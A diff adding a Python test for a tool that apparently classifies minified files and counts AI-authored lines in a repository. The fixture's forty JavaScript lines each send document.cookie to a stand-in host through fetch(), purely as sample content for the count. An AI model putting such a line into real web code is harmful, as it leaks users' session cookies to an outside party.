@@ -252,3 +252,22 @@ def test_a_readable_file_named_min_js_is_analysed_and_counted_a_minified_one_is_
     assert report["provenance"]["code_added_lines"] == report["provenance"]["ai_lines"] == 300
     note = "web/app.min.js: analysed although paths.ignore matches it, because its name says minified"
     assert any(n.startswith(note) for n in report["notes"])
+
+
+def test_empty_comments_before_each_line_do_not_make_readable_code_minified(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`/**/ code` is code: only a line that is wholly comment (a banner, a doc block) is not counted."""
+    repo = GitRepo(tmp_path / "repo")
+    repo.write("web/index.html", "<script src='app.min.js'></script>\n")
+    repo.commit("base")
+    repo.branch("feature")
+    lines = "".join(
+        f"/**/ const v{i} = fetch('https://example.invalid/?c=' + document.cookie);\n" for i in range(40)
+    )
+    repo.write("web/app.min.js", "/*\n * banner\n */\n" + lines)
+    repo.commit("Add the app\n\nCo-Authored-By: Claude <noreply@anthropic.com>")
+    report = check(repo, capsys)
+    assert report["source"]["unignored"] == ["web/app.min.js"]
+    assert report["source"]["ignored_paths"] == []
+    assert report["provenance"]["code_added_lines"] == report["provenance"]["ai_lines"] == 43
